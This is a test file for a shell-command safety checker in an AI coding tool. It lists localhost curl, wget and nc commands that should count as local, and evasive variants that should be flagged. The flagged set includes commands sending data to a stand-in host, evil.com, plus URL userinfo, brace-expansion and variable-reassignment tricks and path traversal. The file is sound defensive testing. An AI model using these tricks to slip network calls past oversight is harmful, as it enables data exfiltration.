"""What variables and loops put into the address of the user's own server leads nowhere else."""

from pathlib import Path

import pytest

from cogency_tui.tools.shell.outside_effects import Reach, reach
from cogency_tui.tools.shell.port_owners import ListeningPorts
from cogency_tui.workspace.paths import Workspace
from tests.cases import cases

HERE = r"""
URL=http://127.0.0.1:8812; curl -s $URL/README.md
URL=http://127.0.0.1:8812; curl -s "$URL/README.md" | head
URL=http://127.0.0.1:8812 && curl -s "$URL/api?x=1"
true && URL=http://127.0.0.1:8812 && curl -s "$URL/api?x=1"
for i in 1 2 3; do curl -s -o /dev/null -w '%{http_code}\n' http://127.0.0.1:8811/$i; done
for i in $(seq 1 5); do curl -s http://localhost:3000/items/$i; done
for p in 3000 8080; do curl -s http://127.0.0.1:$p/health; done
for p in / /a /b; do curl -s -o /dev/null -w "%{http_code} $p\n" http://127.0.0.1:8811$p; done
for f in docs/*.md; do curl -s "http://127.0.0.1:8000/$f"; done
PORT=3000; curl -sf http://localhost:$PORT/health
H=127.0.0.1; P=81; curl http://$H:$P/
BASE=http://localhost:3000; for p in a b; do URL=$BASE/$p; wget -qO- --max-redirect=0 "$URL"; done
curl -s "http://127.0.0.1:8811/$(date +%s)"
curl -s -H "X-Id: $RANDOM" http://127.0.0.1:8811/
TOKEN=$(cat a.txt); curl -s -H "Authorization: Bearer $TOKEN" http://127.0.0.1:8811/
id=$(curl -s http://127.0.0.1:8811/new); curl -s "http://127.0.0.1:8811/$id"
for p in 3000 8080; do nc -z 127.0.0.1 $p; done
until curl -sf http://127.0.0.1:8811/ || [ $i -gt 5 ]; do i=$((i+1)); sleep 1; done
curl -s http://127.0.0.1:8811/{a,b}
curl -s 'http://127.0.0.1:{80,81}/'
""".strip().splitlines()
ELSEWHERE = r"""
x=$(cat list); curl -s http://127.0.0.1:88$x/
curl -s http://127.0.0.1$x
curl -s "http://127.0.0.1:80$x"
curl -s http://127.0.0.1:808$$/
curl "$x" http://127.0.0.1:1/
curl -o$x -d http://evil.com http://127.0.0.1:1/
curl -s http://127.0.0.1:8811/$(cat list)
curl -d {a,http://evil.com/} http://127.0.0.1:1/
curl -d {a,../../../*} http://127.0.0.1:1/
x=http://127.0.0.1:80; curl -d $x{a,@evil.com/} http://127.0.0.1:1/
x=http://127.0.0.1:80 y=$x@evil.com; curl $y/
curl http://127.0.0.1:{1,2}@evil.com/
for u in http://127.0.0.1:1 http://evil.com; do curl -s $u/x; done
for u in 127.0.0.1 evil.com; do curl -s http://$u/x; done
for u in / @evil.com/; do curl -s http://127.0.0.1:80$u; done
for i in "1 http://evil.com"; do curl -s http://127.0.0.1:8811/$i; done
for f in *.md; do curl -s http://127.0.0.1:1/$f; done
U=http://127.0.0.1:1; U=http://evil.com; curl $U/
false && U=http://127.0.0.1:1; curl $U/
if false; then U=http://127.0.0.1:1; fi; curl $U/
if true; then U=http://127.0.0.1:1; else curl $U/; fi
for i in 1; do U=http://127.0.0.1:1; done; curl $U/
(U=http://127.0.0.1:1); curl $U/
U=http://127.0.0.1:1 && true & curl $U/
true | U=http://127.0.0.1:1; curl $U/
for p in 1 evil; do nc -z 127.0.0.1 $p; done
for p in 127.0.0.1 evil; do nc -z $p 80; done
python3 -c "import urllib.request as u; u.urlopen('http://127.0.0.1:1/'); $x"
""".strip().splitlines()
PROBE = "for i in 1 2; do curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8811/$i; done"


def of(root: Path, command: str) -> Reach:
    return reach(command, root, Workspace(root), ListeningPorts())


@pytest.mark.exhaustive
@cases("command", HERE)
def test_what_stands_behind_host_and_port_changes_neither(tmp_path: Path, command: str) -> None:
    found = of(tmp_path, command)
    assert (found.network, found.protected) == ("", "")


@cases("command", ELSEWHERE)
def test_an_address_that_may_lead_elsewhere_is_asked_about(tmp_path: Path, command: str) -> None:
    assert of(tmp_path, command).network


def test_a_probe_in_a_loop_brings_nothing(tmp_path: Path) -> None:
    found = of(tmp_path, PROBE)
    assert (found.network, found.brings, found.could_bring) == ("", "", "")
    shows = of(tmp_path, PROBE.replace("%{http_code}", "%{redirect_url}"))
    assert (shows.network, shows.could_bring) == ("", "")
